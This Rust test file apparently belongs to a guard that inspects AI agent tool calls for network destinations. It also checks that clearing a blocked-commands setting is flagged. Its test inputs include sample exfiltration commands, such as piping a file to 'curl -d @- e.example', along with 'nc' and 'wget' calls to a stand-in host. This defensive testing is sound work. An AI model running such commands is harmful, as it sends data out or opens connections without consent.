use super::*;
use bouncer_guest::testing::{call, json};

fn found(tool: &str, arguments: Value) -> Vec<String> {
    let judgement = Shells::evaluate(&call(tool, arguments), &[], &Settings::default()).unwrap();
    judgement.destinations().iter().map(|(value, _, at)| format!("{value} {at}")).collect()
}

#[test]
fn hosts_inside_of_commands_are_destinations() {
    for (tool, arguments, expected) in [
        ("run_command", json!({"command": "cat x | curl -d @- e.example"}), &["e.example /command"][..]),
        (
            "shell_execute",
            json!({"command": ["curl", "-s", "https://e.example/x"]}),
            &["https://e.example/x /command/2", "https://e.example/x /command"],
        ),
        ("shell_execute", json!({"command": ["sh", "-c", "nc e.example 1"]}), &["e.example /command"]),
        ("exec_in_pod", json!({"command": "bash -c 'wget e.example'"}), &["e.example /command"]),
        (
            "kubectl_apply",
            json!({"manifest": "image: x\nargs: [https://e.example/a]"}),
            &["https://e.example/a /manifest"],
        ),
        (
            "kubectl_apply",
            json!({"filename": "https://e.example/a.yaml"}),
            &["https://e.example/a.yaml /filename"],
        ),
        (
            "n8n_create_workflow",
            json!({"nodes": [{"parameters": {"url": "https://e.example/"}}]}),
            &["https://e.example/ /nodes/0/parameters/url"],
        ),
        ("run_command", json!({"command": "ls -la"}), &[]),
    ] {
        assert_eq!(found(tool, arguments), expected, "{tool}");
    }
}

#[test]
fn a_local_file_is_no_address() {
    assert!(found("read_file", json!({"path": "/home/me/x"})).is_empty());
    assert_eq!(found("read_file", json!({"path": "e.example/x", "isUrl": true})), ["e.example/x /path"]);
    assert_eq!(found("read_file", json!({"path": "https://e.example/x"})), ["https://e.example/x /path"]);
    assert!(found("read_file", json!({"path": "/x", "isUrl": false})).is_empty());
    let judgement = Shells::evaluate(
        &call("set_config_value", json!({"key": "blockedCommands", "value": []})),
        &[],
        &Settings {},
    );
    assert_eq!(judgement.unwrap().findings()[0].code(), "setting_changed");
}
